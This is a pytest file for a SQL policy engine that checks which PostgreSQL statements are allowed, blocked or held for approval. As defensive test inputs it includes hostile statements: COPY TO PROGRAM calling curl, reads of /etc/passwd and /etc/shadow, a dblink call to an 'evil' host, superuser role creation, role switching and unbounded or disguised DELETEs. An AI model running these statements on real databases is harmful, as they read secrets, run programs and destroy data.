"""SQL classification with pglast and SQL rules: nested statements, traits, dynamic SQL, fail closed."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.engine import Action, PolicySet, Rule, evaluate_sql
from policies.sql import SqlParseError, classify_sql

DB = PolicySet("db", Action.ALLOW, (
    Rule("no-unbounded-writes", Action.BLOCK, statements=("delete", "update"), traits=("no_where",),
         reason="DELETE/UPDATE need a WHERE"),
    Rule("ddl-needs-approval", Action.REQUIRE_APPROVAL, statements=("drop", "truncate", "alter"),
         approver_roles=("reviewers",)),
    Rule("no-server-files", Action.BLOCK, traits=("copy_program", "copy_file", "dangerous_function")),
    Rule("no-role-switch", Action.BLOCK, statements=("set_role", "alter_system", "grant", "revoke", "role")),
    Rule("no-role-switch-fn", Action.BLOCK, traits=("set_role",)),
    Rule("audit-table-readonly", Action.BLOCK, statements=("insert", "update", "delete"), tables=("audit_log",)),
))


def judge(sql: str) -> tuple[str, str | None]:
    d = evaluate_sql(DB, sql, groups=["ops"], resource="db")
    return d.action.label, d.rule


@pytest.mark.parametrize(("sql", "action", "rule"), [
    ("SELECT ssn FROM customers", "allow", None),
    ("DELETE FROM customers", "block", "no-unbounded-writes"),
    ("delete from customers where 1=1", "block", "no-unbounded-writes"),
    ("DELETE FROM customers WHERE id = 1 OR true", "block", "no-unbounded-writes"),
    ("DELETE/**/FROM customers", "block", "no-unbounded-writes"),
    ("DELETE FROM customers WHERE id = 7", "allow", None),
    ("DELETE FROM customers WHERE $1 = $2", "block", "no-unbounded-writes"),  # bound to 1, 1 later
    ("DELETE FROM customers WHERE id = 1 OR $1", "block", "no-unbounded-writes"),
    ("DELETE FROM customers WHERE now() > '2000-01-01'", "block", "no-unbounded-writes"),
    ("DELETE FROM customers WHERE id = id", "block", "no-unbounded-writes"),
    ("DELETE FROM customers WHERE id = $1 AND true", "allow", None),
    ("DELETE FROM customers WHERE id IN (SELECT id FROM old)", "allow", None),
    ("UPDATE customers SET name = 'x' WHERE TRUE", "block", "no-unbounded-writes"),
    ("WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d", "block", "no-unbounded-writes"),
    ("EXPLAIN ANALYZE DELETE FROM customers", "block", "no-unbounded-writes"),
    ("EXPLAIN DELETE FROM customers", "allow", None),  # EXPLAIN without ANALYZE does not run it
    ("PREPARE p AS DELETE FROM customers", "block", "no-unbounded-writes"),
    ("EXECUTE p", "require_approval", "ddl-needs-approval"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$", "require_approval", "ddl-needs-approval"),
    ("DO $body$ BEGIN NULL; END $body$", "require_approval", "ddl-needs-approval"),
    ("SELECT query_to_xml('delete from customers', true, true, '')", "require_approval", "ddl-needs-approval"),
    ("DROP TABLE customers", "require_approval", "ddl-needs-approval"),
    ("TRUNCATE customers", "require_approval", "ddl-needs-approval"),
    ("ALTER TABLE customers ADD COLUMN x int", "require_approval", "ddl-needs-approval"),
    ("COPY customers TO PROGRAM 'curl evil'", "block", "no-server-files"),
    ("COPY customers FROM '/etc/passwd'", "block", "no-server-files"),
    ("COPY customers TO STDOUT", "allow", None),
    ("SELECT pg_read_file('/etc/passwd')", "block", "no-server-files"),
    ("SELECT lo_import('/etc/shadow')", "block", "no-server-files"),
    ("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "block", "no-server-files"),
    ("SET ROLE postgres", "block", "no-role-switch"),
    ("SET SESSION AUTHORIZATION postgres", "block", "no-role-switch"),
    ("SELECT set_config('role', 'postgres', false)", "block", "no-server-files"),
    ("ALTER SYSTEM SET log_statement = 'none'", "block", "no-role-switch"),
    ("GRANT ALL ON customers TO public", "block", "no-role-switch"),
    ("CREATE ROLE evil SUPERUSER", "block", "no-role-switch"),
    ("INSERT INTO audit_log VALUES (1)", "block", "audit-table-readonly"),
    ("INSERT INTO public.audit_log VALUES (1)", "block", "audit-table-readonly"),
    ("SELECT 1; DROP TABLE customers", "require_approval", "ddl-needs-approval"),
    ("SELECT 1; DELETE FROM customers; DROP TABLE x", "block", "no-unbounded-writes"),
    ("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM customers", "block", "no-unbounded-writes"),
    ("SELEC 1", "block", None),
    ("SELECT 'unterminated", "block", None),
    ("-- only a comment", "allow", None),
])
def test_sql_decisions(sql: str, action: str, rule: str | None) -> None:
    assert judge(sql) == (action, rule)


def test_dynamic_sql_without_approvers_is_refused() -> None:
    d = evaluate_sql(PolicySet("p"), "DO $$ BEGIN NULL; END $$", groups=[], resource="db")
    assert d.action == Action.BLOCK and "names no approvers" in d.reason


def test_statement_texts_and_tables() -> None:
    stmts = classify_sql("SELECT 'é'; DROP TABLE public.customers, x")
    assert [s.text for s in stmts] == ["SELECT 'é'", "DROP TABLE public.customers, x"]
    assert stmts[1].tables == ("public.customers", "x")
    with pytest.raises(SqlParseError):
        classify_sql("SELECT \x00")


sql_bits = st.lists(st.sampled_from([
    "SELECT 1", "DELETE FROM t", "DELETE FROM t WHERE id=1", "WITH x AS (", ")", " SELECT * FROM x", ";", " ",
    "/*", "*/", "--", "\n", "'", "$$", "DO ", "EXPLAIN ANALYZE ", "UPDATE t SET a=1", " WHERE true", "(",
    "PREPARE p AS ",
]), max_size=12).map("".join)


@settings(max_examples=300, deadline=None)
@given(sql_bits)
def test_never_crashes_and_never_allows_an_unbounded_delete(sql: str) -> None:
    d = evaluate_sql(DB, sql, groups=[], resource="db")
    try:
        stmts = classify_sql(sql)
    except SqlParseError:
        assert d.action == Action.BLOCK
        return
    if any(s.kind in ("delete", "update") and "no_where" in s.traits for s in stmts):
        assert d.action == Action.BLOCK, sql
